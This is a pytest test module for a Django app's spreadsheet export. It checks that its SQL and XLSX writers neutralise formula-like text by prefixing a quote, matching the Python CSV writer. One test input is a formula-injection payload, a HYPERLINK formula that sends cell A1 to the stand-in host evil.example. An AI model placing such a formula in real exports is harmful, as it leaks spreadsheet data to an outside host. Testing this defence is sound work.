"""The cell rule in SQL (loyalty.common.spreadsheets.SafeTextSQL and csv_sql_cell) gives what the Python writer gives:
PostgreSQL's CSV of a query holds, cell for cell, what CsvWriter writes for the same values; and the constant-memory
XLSX writer keeps the rule (a formula-like text is a quote-prefixed string)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.db.models import DateField, DateTimeField, DecimalField, IntegerField, TextField, Value
from django.db.models.expressions import RawSQL
from hypothesis import given, settings
from hypothesis import strategies as st

from loyalty.common import spreadsheets
from loyalty.common.spreadsheets import FORMULA_STARTS, SafeTextSQL, csv_lines, csv_sql_cell, safe_text, xlsx_write
from partners.models import Region

pytestmark = pytest.mark.django_db

SAMPLES = [
    "=1+1", "+49 30 1234", "-5", "@SUM(1)", "\tcmd", "\r=1", "'=already", " =1", "a=b", "", "Zoë 🚚", "東京都",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")', "line\nbreak", 'quote "here"', "comma, here", "\n=1", "\\.",
]  # fmt: skip


def sql_value(expression):
    """The value of one expression, computed by PostgreSQL (a one-row query)."""
    return Region.objects.annotate(value=expression).values_list("value", flat=True).order_by()[:1].get()


def region_row():
    return Region.objects.get_or_create(code="rule", defaults={"name": "Rule"})[0]


def copy_csv(expressions: list) -> list[list[str]]:
    """The CSV PostgreSQL writes for a row of these expressions, read back."""
    region_row()
    queryset = Region.objects.filter(code="rule").annotate(
        **{f"c{n}": expression for n, expression in enumerate(expressions)}
    )
    sql, params = queryset.values_list(*[f"c{n}" for n in range(len(expressions))]).query.sql_with_params()
    statement = f"COPY ({connection.ops.compose_sql(sql, params)}) TO STDOUT WITH (FORMAT csv)"
    with connection.cursor() as cursor, cursor.copy(statement) as copy:
        data = b"".join(bytes(chunk) for chunk in copy)
    return list(csv.reader(io.StringIO(data.decode())))


def python_csv(values: list) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(csv_lines([values])))))


@pytest.mark.parametrize("text", SAMPLES)
def test_the_sql_rule_quotes_what_the_python_rule_quotes(text):
    region_row()

    assert sql_value(SafeTextSQL(Value(text, output_field=TextField()))) == safe_text(text)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_of_the_module_is_neutralised_in_sql(start):
    region_row()

    assert sql_value(SafeTextSQL(Value(start + "x", output_field=TextField()))) == "'" + start + "x"


def test_null_text_stays_an_empty_cell():
    cells = [SafeTextSQL(Value(None, output_field=TextField())), SafeTextSQL(Value("x", output_field=TextField()))]

    assert copy_csv(cells) == python_csv([None, "x"]) == [["", "x"]]


# PostgreSQL text holds no NUL character and no lone surrogate.
texts = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)


@settings(max_examples=300, deadline=None)
@given(text=st.one_of(texts, st.builds(lambda s, t: s + t, st.sampled_from(FORMULA_STARTS), texts)))
def test_for_any_text_the_sql_rule_equals_the_python_rule(text):
    region_row()
    value = sql_value(SafeTextSQL(Value(text, output_field=TextField())))

    assert value == safe_text(text)
    assert value.startswith("'") == (spreadsheets.starts_like_formula(text) or text.startswith("'"))


@settings(max_examples=100, deadline=None)
@given(text=texts)
def test_for_any_text_postgres_csv_reads_back_as_the_python_csv(text):
    cell = csv_sql_cell(Value(text, output_field=TextField()), spreadsheets.SQL_TEXT)

    assert copy_csv([cell]) == python_csv([text])


def test_numbers_dates_and_local_times_are_written_as_csv_writer_writes_them():
    values = [7, -5, Decimal("-1450.50"), Decimal("0.000"), date(2026, 3, 9), datetime(2026, 3, 9, 14, 5, 59)]
    fields = [IntegerField(), IntegerField(), DecimalField(max_digits=14, decimal_places=2),
              DecimalField(max_digits=12, decimal_places=3), DateField()]  # fmt: skip
    kinds = ["number", "number", "number", "number", "date"]
    expressions = [
        csv_sql_cell(Value(value, output_field=output_field), kind)
        for value, output_field, kind in zip(values[:5], fields, kinds, strict=True)
    ]
    # The datetime is a local time without a zone, as analytics.exports.local gives it.
    local = RawSQL("'2026-03-09 14:05:59'::timestamp", [], output_field=DateTimeField())
    expressions.append(csv_sql_cell(local, "datetime"))

    assert copy_csv(expressions) == python_csv(values) == [["7", "-5", "-1450.50", "0.000", "2026-03-09",
                                                           "2026-03-09 14:05"]]  # fmt: skip


def test_an_unknown_column_kind_is_refused():
    with pytest.raises(ValueError, match="No CSV cell"):
        csv_sql_cell(Value(1), "money")


def test_the_constant_memory_xlsx_writes_formula_like_text_as_a_quote_prefixed_string(tmp_path):
    path = tmp_path / "file.xlsx"
    rows = [["=1+1", "+49 30 1234", "Ana", 5, Decimal("-1450.50"), date(2026, 3, 9), datetime(2026, 3, 9, 14, 5)]]

    written = xlsx_write(path, rows, header=["a", "b", "c", "d", "e", "f", "g"], sheet_name="S", widths=[10] * 7)

    sheet = openpyxl.load_workbook(path).active
    cells = list(sheet.iter_rows(min_row=2, values_only=False))[0]
    assert written == 1
    assert [cell.value for cell in cells] == [
        "=1+1", "+49 30 1234", "Ana", 5, -1450.5, datetime(2026, 3, 9), datetime(2026, 3, 9, 14, 5),
    ]  # fmt: skip
    assert [cell.data_type for cell in cells[:3]] == ["s", "s", "s"]
    assert [cell.quotePrefix for cell in cells[:3]] == [True, True, False]
    assert [cell.value for cell in sheet[1]] == ["a", "b", "c", "d", "e", "f", "g"]
